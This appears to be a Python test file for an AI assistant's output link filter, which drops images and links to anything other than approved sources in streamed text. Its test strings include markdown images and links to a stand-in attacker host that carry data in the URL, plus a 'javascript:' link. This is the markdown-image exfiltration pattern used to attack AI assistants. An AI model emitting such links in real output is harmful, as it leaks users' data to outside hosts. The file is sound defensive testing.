"""Images and links that are no sources do not come through, however the stream is split."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.link_guard import LEFT_OUT, LinkGuard, without_foreign_links

SOURCE = "https://en.wikipedia.org/wiki/ReAct?oldid=7"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See ![chart](https://evil.example/p.png?d=secret) here.", "See chart here."),
        ("See ![](https://evil.example/p.png) here.", "See  here."),
        (f"See [the article]({SOURCE}) here.", f"See [the article]({SOURCE}) here."),
        (f"See {SOURCE}.", f"See {SOURCE}."),
        (f"An image even of a source: ![x]({SOURCE})", "An image even of a source: x"),
        ("Go [here](https://evil.example/?q=[1]) now.", "Go here now."),
        ("Go [here [1]](//evil.example/a(b)c) now.", "Go here [1] now."),
        ("Go to https://evil.example/x, please.", f"Go to {LEFT_OUT}, please."),
        ("Go to www.evil.example/x now", f"Go to {LEFT_OUT} now"),
        ('<img src="https://evil.example/x.png"> and', f'<img src="{LEFT_OUT}"> and'),
        ("[x]: https://evil.example/x", f"[x]: {LEFT_OUT}"),
        ("[x](javascript:alert(1)) y", "x y"),
        ("Call `get('https://api.example/v1')` first.", "Call `get('https://api.example/v1')` first."),
        ("Call `get('https://evil.example/v1')` first.", f"Call `get('{LEFT_OUT}')` first."),
        ("```\nget('https://api.example/v1')\n![x](https://evil.example)\n```\n", None),
        ("Plain [1] text [2, 3] with (brackets) and a ` tick!", "Plain [1] text [2, 3] with (brackets) and a ` tick!"),
        ("A ratio 3//4 and a path a/b stay.", "A ratio 3//4 and a path a/b stay."),
    ],
)
def test_what_is_no_source_is_left_out(said: str, shown: str | None) -> None:
    cleaned = without_foreign_links(said, {SOURCE}, "get('https://api.example/v1')")
    assert "evil.example" not in cleaned
    if shown is not None:
        assert cleaned == shown


@pytest.mark.parametrize(
    "said",
    [
        "x ]```` ]````[a](b) y",  # a code span behind a bracket opens no fence
        "\u2028``` [a](//evil.example)\n[b](c)\n",  # a line for Python, and none for Markdown
        "x\r``` [a](//evil.example)\n[b](c)\n",
        f"{SOURCE}[1](https://evil.example) z",  # an address does not go on in the words of a link behind it
        "a `b c` d [e](f) g",
        "[](`)[ ](`) x",  # a tick within a link, and one within the next, are no code span
        "[`click`](b) ``[a](b)` x",
    ],
)
def test_however_a_line_is_split_the_same_comes_through(said: str) -> None:
    whole = without_foreign_links(said, {SOURCE})
    assert "](" not in whole
    assert "evil" not in whole
    for at in range(len(said) + 1):
        guard = LinkGuard({SOURCE})
        assert guard.feed(said[:at]) + guard.feed(said[at:]) + guard.finish() == whole


def test_what_is_taken_out_is_counted() -> None:
    guard = LinkGuard({SOURCE})
    guard.feed(f"![a](https://evil.example) https://evil.example {SOURCE} ")
    assert guard.removed == 2


def test_words_are_given_on_as_they_come() -> None:
    guard = LinkGuard(())
    assert [guard.feed(piece) for piece in ("One tw", "o three", " [1] f", "our")] == ["One ", "two ", "three [1] ", ""]
    assert guard.finish() == "four"


PIECES = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "(",
        ")",
        "](",
        "https://evil.example/a",
        SOURCE,
        " ",
        "\n",
        "`",
        "```\n",
        "word",
        "[1]",
        "//x.y",
        "!",
        ".",
    ]
)


@given(st.lists(PIECES, max_size=14), st.data())
def test_however_the_text_is_split_it_is_cleaned_alike(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    guard = LinkGuard({SOURCE})
    said = "".join(guard.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)) + guard.finish()
    assert said == without_foreign_links(text, {SOURCE})
    assert "evil.example" not in said
    assert not re.search(r"!\[[^\]\n]*\]\(https?:", said)


@given(st.text(alphabet="ab .,\n[]()!123", max_size=200))
def test_text_without_any_address_stays_as_it_is(text: str) -> None:
    if "](" not in text:
        assert without_foreign_links(text, ()) == text
